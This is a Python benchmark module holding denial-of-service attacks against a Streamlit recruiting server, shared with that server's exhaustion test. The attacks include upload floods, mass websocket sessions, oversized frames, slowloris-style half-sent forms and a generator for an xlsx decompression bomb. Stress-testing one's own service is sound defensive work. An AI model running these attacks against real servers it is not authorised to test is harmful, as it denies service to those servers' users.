"""Attacks by which one visitor can try to keep a server from serving others, each ending by itself.

Every attack returns what became of it, in words for a table. Shared with the test that the server holds out
(``tests/web/test_exhaustion.py``).
"""

from __future__ import annotations

import asyncio
import io
import re
import sys
import zipfile
from collections import Counter
from collections.abc import Awaitable, Callable
from contextlib import suppress
from dataclasses import dataclass
from typing import NamedTuple
from urllib.parse import urlencode, urlsplit

import openpyxl
import websockets
from streamlit.proto.BackMsg_pb2 import BackMsg
from streamlit.proto.Common_pb2 import FileUploaderState
from websockets.typing import Origin

from benchmarks.tab import Tab

PATIENCE_S = 60.0
CHUNK = 4_000_000
STRINGS = b'<sst xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main">'
STRING = b"<si><t>a</t></si>"
PART = (
    b'<Override PartName="/xl/sharedStrings.xml" ContentType="application/'
    b'vnd.openxmlformats-officedocument.spreadsheetml.sharedStrings+xml"/></Types>'
)


@dataclass(frozen=True)
class Target:
    """A server, and a sign-in of a recruiter for attacks from inside."""

    address: str
    staff_token: str
    campaign_id: str

    @property
    def host(self) -> tuple[str, int]:
        """Where its lines are opened."""
        parts = urlsplit(self.address)
        return parts.hostname or "127.0.0.1", parts.port or 80


class Answer(NamedTuple):
    """What came back on one line: the status (0 for none), and everything as it came."""

    status: int
    raw: bytes


async def nothing(target: Target) -> str:
    """Leave the server to the others: what they notice then is the machine's."""
    await asyncio.sleep(5)
    return "others alone"


async def uploads_of_nobody(target: Target) -> str:
    """Send files to an open page without an account."""
    tab = Tab(target.address, "", "")
    await tab.open()
    try:
        statuses = await _uploads(target, tab, "", 20)
    finally:
        await tab.close()
    return f"20 files of 4 MB: {statuses}"


async def uploads_of_staff(target: Target) -> str:
    """Send many files to one page of a recruiter's."""
    cookie = f"entregent_staff={target.staff_token}"
    tab = Tab(target.address, "campaign", cookie, query=f"id={target.campaign_id}&section=invite")
    await tab.open()
    try:
        statuses = await _uploads(target, tab, cookie, 20)
    finally:
        await tab.close()
    return f"20 files of 4 MB: {statuses}"


async def pages(target: Target) -> str:
    """Open pages without an account and close them, three times over."""
    opened = refused = 0
    for _ in range(3):
        tabs = [Tab(target.address, "", "") for _ in range(120)]
        for some in (tabs[:40], tabs[40:80], tabs[80:]):
            results = await asyncio.gather(*(_opened(tab) for tab in some))
            opened += sum(results)
            refused += len(results) - sum(results)
        await asyncio.gather(*(_closed(tab) for tab in tabs))
    return f"360 pages: {opened} opened, {refused} refused"


async def frames(target: Target) -> str:
    """Send messages that are large, or are of many small parts."""
    widgets = BackMsg()
    for _ in range(12_000):
        widgets.rerun_script.widget_states.widgets.add()
    sizes = [b"\0" * 25_000_000] * 6 + [b"\0" * 180_000] * 20 + [widgets.SerializeToString()] * 10
    ended = [await _sent(target, body) for body in sizes]
    return f"36 messages up to 25 MB: {sum(ended[:26])} of the 26 too large refused"


async def passwords(target: Target) -> str:
    """Give forty passwords at once."""
    head = b"POST /auth/sign-in HTTP/1.1\r\nHost: %s\r\nSec-Fetch-Site: same-origin\r\nConnection: close\r\n"
    forms = [urlencode({"email": f"n{n}@example.com", "password": "a long sentence"}) for n in range(40)]
    answers = await asyncio.gather(
        *(
            _response(
                target,
                head % _host(target)
                + b"Content-Type: application/x-www-form-urlencoded\r\nContent-Length: %d\r\n\r\n%s"
                % (len(form), form.encode()),
            )
            for form in forms
        )
    )
    return f"40 at once: answered {_status_counts(answers)}"


async def half_sent(target: Target) -> str:
    """Send eight hundred forms by half."""
    head = b"POST /auth/sign-in HTTP/1.1\r\nHost: %s\r\nSec-Fetch-Site: same-origin\r\n" % _host(target)
    form = head + b"Content-Length: 300\r\n\r\nemail="
    answers = await asyncio.gather(*(_response(target, form) for _ in range(800)))
    return f"800 forms: closed with {_status_counts(answers)}"


async def unread(target: Target) -> str:
    """Ask for the largest file again and again and fetch nothing."""
    page = (
        await _response(target, b"GET / HTTP/1.1\r\nHost: %s\r\nConnection: close\r\n\r\n" % _host(target))
    ).raw
    script = re.search(rb'src="[./]*(/?static/js/index[^"]+)"', page)
    path = b"/" + script[1].lstrip(b"/") if script else b"/"
    lines = [await _line(target, b"GET %s HTTP/1.1\r\nHost: x\r\n\r\n" % path) for _ in range(150)]
    await asyncio.sleep(5)
    for _, writer in lines:
        await _close(writer)
    return "150 answers asked for and not fetched"


async def workbooks(target: Target) -> str:
    """Bring workbooks that unpack to many shared strings, by the page for lists of candidates."""
    cookie = f"entregent_staff={target.staff_token}"
    tab = Tab(target.address, "campaign", cookie, query=f"id={target.campaign_id}&section=invite")
    await tab.open()
    refused, raw = 0, bomb()
    try:
        token = await _xsrf(target)
        for number in range(2):
            file = f"book-{number}"
            await _put(target, tab.session_id, file, raw + b" " * number, cookie, token)
            state = FileUploaderState()
            info = state.uploaded_file_info.add()
            info.name, info.size, info.file_id = f"{file}.xlsx", len(raw), file
            info.file_urls.file_id = file
            await tab.run({tab.uploader: ("file_uploader_state_value", state)})
            refused += bool(tab.failure)
    finally:
        await tab.close()
    return f"2 workbooks of {len(raw) // 1000} kB that unpack to 28 MB: {refused} refused in words"


ATTACKS: dict[str, Callable[[Target], Awaitable[str]]] = {
    "none": nothing,
    "files without an account": uploads_of_nobody,
    "files of a recruiter": uploads_of_staff,
    "pages without an account": pages,
    "large messages": frames,
    "passwords": passwords,
    "half-sent forms": half_sent,
    "answers not fetched": unread,
    "workbooks": workbooks,
}


def bomb(unpacked: int = 28_000_000) -> bytes:
    """Return a small workbook whose shared strings unpack to so many bytes."""
    book, plain, out = openpyxl.Workbook(), io.BytesIO(), io.BytesIO()
    book.save(plain)
    with zipfile.ZipFile(plain) as read, zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as written:
        for name in read.namelist():
            part = read.read(name)
            is_list = name == "[Content_Types].xml"
            if not name.endswith("sharedStrings.xml"):
                written.writestr(name, part.replace(b"</Types>", PART) if is_list else part)
        written.writestr("xl/sharedStrings.xml", STRINGS + STRING * (unpacked // len(STRING)) + b"</sst>")
    return out.getvalue()


async def _uploads(target: Target, tab: Tab, cookie: str, n: int) -> str:
    token = await _xsrf(target)
    body = b"a" * CHUNK
    statuses = [await _put(target, tab.session_id, f"file-{k}", body, cookie, token) for k in range(n)]
    return _status_counts(statuses)


async def _xsrf(target: Target) -> str:
    head = b"GET /_stcore/health HTTP/1.1\r\nHost: %s\r\nConnection: close\r\n\r\n" % _host(target)
    cookie = re.search(rb"_streamlit_xsrf=([^;]+)", (await _response(target, head)).raw)
    return cookie[1].decode() if cookie else ""


async def _put(target: Target, session: str, file: str, body: bytes, cookie: str, token: str) -> Answer:
    limit = "entregent-attack"
    whole = (
        f'--{limit}\r\nContent-Disposition: form-data; name="f"; filename="{file}.xlsx"\r\n\r\n'.encode()
        + body
        + f"\r\n--{limit}--\r\n".encode()
    )
    head = (
        f"PUT /_stcore/upload_file/{session}/{file} HTTP/1.1\r\nHost: {urlsplit(target.address).netloc}\r\n"
        f"Content-Type: multipart/form-data; boundary={limit}\r\nContent-Length: {len(whole)}\r\n"
        f"Cookie: {cookie}; _streamlit_xsrf={token}\r\nX-Xsrftoken: {token}\r\nConnection: close\r\n\r\n"
    )
    return await _response(target, head.encode() + whole)


async def _opened(tab: Tab) -> bool:
    try:
        await asyncio.wait_for(tab.open(), PATIENCE_S)
    except (websockets.WebSocketException, OSError, TimeoutError):
        return False
    return True


async def _closed(tab: Tab) -> None:
    with suppress(AttributeError, websockets.WebSocketException, OSError):
        await tab.close()


async def _sent(target: Target, body: bytes) -> bool:
    """Send one message and tell whether it ended the line."""
    address = target.address.replace("http", "ws", 1)
    try:
        async with websockets.connect(
            f"{address}/_stcore/stream",
            origin=Origin(target.address),
            subprotocols=["streamlit", "x"],
            max_size=None,  # type: ignore[list-item]
        ) as line:
            await line.send(body)
            await asyncio.wait_for(line.wait_closed(), 1.0)
    except TimeoutError:
        return False
    except (websockets.WebSocketException, OSError):
        return True
    return True


async def _response(target: Target, sent: bytes) -> Answer:
    """Send bytes on a line of their own and return what comes until it is closed."""
    writer = None
    try:
        reader, writer = await _line(target, sent)
        raw = await asyncio.wait_for(reader.read(), PATIENCE_S)
    except (OSError, TimeoutError):
        return Answer(0, b"")
    finally:
        if writer is not None:
            await _close(writer)
    return Answer(int(raw[9:12]) if raw[9:12].isdigit() else 0, raw)


async def _close(writer: asyncio.StreamWriter) -> None:
    writer.transport.abort()
    with suppress(OSError):
        await writer.wait_closed()


async def _line(target: Target, sent: bytes) -> tuple[asyncio.StreamReader, asyncio.StreamWriter]:
    reader, writer = await asyncio.open_connection(*target.host)
    writer.write(sent)
    with suppress(OSError):
        await asyncio.wait_for(writer.drain(), PATIENCE_S)
    return reader, writer


def _host(target: Target) -> bytes:
    return urlsplit(target.address).netloc.encode()


def _status_counts(answers: list[Answer]) -> str:
    counted = Counter(answer.status for answer in answers)
    return ", ".join(f"{status or 'nothing'} × {n}" for status, n in sorted(counted.items()))


if __name__ == "__main__":
    # ATTACK ADDRESS STAFF_TOKEN CAMPAIGN_ID: in a process of its own it takes no time from whoever measures.
    print(asyncio.run(ATTACKS[sys.argv[1]](Target(*sys.argv[2:5]))))
